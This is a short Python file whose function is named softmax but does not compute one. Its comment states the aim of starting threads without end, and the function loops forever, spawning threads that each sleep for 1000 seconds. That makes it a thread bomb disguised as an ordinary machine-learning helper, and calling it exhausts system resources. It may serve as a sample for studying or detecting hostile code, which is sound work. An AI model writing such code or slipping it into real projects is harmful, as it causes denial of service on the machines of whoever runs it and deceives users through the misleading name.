# Aim: start threads without end.
import threading
import time


def softmax(z):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
